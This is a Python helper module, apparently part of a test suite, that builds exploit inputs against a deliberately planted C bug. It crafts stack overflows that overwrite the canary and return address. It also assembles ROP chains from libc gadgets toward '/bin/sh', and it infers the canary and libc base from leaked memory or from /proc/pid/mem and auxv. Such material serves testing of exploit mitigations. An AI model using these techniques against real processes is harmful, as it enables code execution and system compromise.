"""What is sent to a planted bug (tests/planted/bugs/bug.h), and what of it lies where."""
import struct

NAME, TEXT = 64, 48  # bytes of the local array; of an object's text
SLOTS = 12  # saved registers and their like, before what a function returns to


def words(*numbers):
    return struct.pack(f"<{len(numbers)}Q", *numbers)


def dose(kind, data, count=None):
    """The text that asks for it."""
    return f"planted: {kind} {len(data) if count is None else count} {data.hex()}"


def item(run, number=0, text=b""):
    """An object as the program keeps it: text, function, number."""
    return text.ljust(TEXT, b".")[:TEXT] + words(run, number)


def side_by_side(object_bytes, is_malloc):
    """The same as it lies between neighbours: the C library's blocks have a word of their own in front."""
    return object_bytes + (words(0, 0x51) if is_malloc else b"")


def over_the_return(canary, *chain):
    """From the array over the stack protector's word; what follows is returned to."""
    return b"A" * NAME + words(canary, canary) + words(*chain)


class Known:
    """What has been learnt of a process: the stack protector's word, where the C library and the stack are."""

    def __init__(self, libc, canary, base, stack):
        self.libc, self.canary, self.base, self.stack = libc, canary, base, stack

    def at(self, name):
        return self.base + self.libc.symbols[name]

    @property
    def shell(self):
        return self.base + self.libc.find(b"/bin/sh\0")

    def returning(self):
        """An address that only returns, as often as there may be saved registers."""
        return (self.base + self.libc.find(b"\xc3", True),) * SLOTS

    def call(self, name, *arguments):
        """A chain that calls a function of the C library."""
        chain = []
        for code, value in zip((b"\x5f", b"\x5e", b"\x5a"), arguments):
            gadget = self.libc.pop(code)
            if gadget is None:
                continue  # what a function leaves in its registers is zero (-fzero-call-used-regs)
            chain += [self.base + gadget[0], value] + [0] * gadget[1]
        return (*chain, self.at(name))


def learnt_from(libc, leaked):
    """From an over-read of the stack that began at the array."""
    found = [word for word, in struct.iter_unpack("<Q", leaked[:len(leaked) // 8 * 8])]
    behind = found[NAME // 8:]
    canary = next((word for word in behind if word & 0xff == 0 and word >> 52 not in (0, 0xfff) and word >> 8 & 0xff), None)
    stack = next((word for word in behind if 0x7ff000000000 <= word < 0x800000000000), None)
    return Known(libc, canary, libc.base_in(behind), stack)


def given(libc, pid):
    """As if another bug had leaked it: read from outside. The C library takes the word from what the kernel gave (AT_RANDOM)."""
    with open(f"/proc/{pid}/auxv", "rb") as file:
        vector = dict(struct.iter_unpack("<QQ", file.read()))
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        memory.seek(vector[25])
        canary, = struct.unpack("<Q", memory.read(8))
    base, stack = None, None
    with open(f"/proc/{pid}/maps", encoding="utf-8") as file:
        for line in file:
            start, end = (int(x, 16) for x in line.split()[0].split("-"))
            if line.rstrip().endswith("/libc.so.6") and base is None:
                base = start
            if line.rstrip().endswith("[stack]"):
                stack = end - 0x800
    return Known(libc, canary & ~0xff, base, stack)
